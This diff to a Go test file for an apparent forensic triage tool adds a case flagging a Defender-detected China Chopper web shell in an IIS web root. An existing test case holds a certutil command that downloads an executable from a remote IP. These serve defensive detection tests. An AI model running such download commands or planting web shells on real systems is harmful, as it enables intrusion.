@@ -88,6 +88,7 @@ func TestJudge(t *testing.T) {
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceShimcache, "Image", `C:\Windows\TEMP\{605A2280-1237-4AB3-9B33-3673E9E66D88}\MpSigStub.exe`), ""},
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceShimcache, "Image", `C:\Users\anna\AppData\Local\Temp\7zS8E89D0D4\Installer.exe`), ""},
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceTimes, "Image", `C:\ProgramData\evil.exe`, "Details", "made 2015-01-01T00:00:00Z"), TraceTimes},
+		{of(evidence.ObserveTrace, "Kind", evidence.TraceDefender, "Image", `C:\inetpub\wwwroot\m.aspx`, "Details", "Backdoor:ASP/Chopper.A!dha"), TraceFound},
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceDeleted, "Image", `C:\ProgramData\vendor\a.exe`, "Details", "deleted; made 2026-01-01T00:00:00Z"), ""},
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceHistory, "CommandLine", `certutil -urlcache -f http://192.0.2.9/a.exe a.exe`), TraceCommand},
 
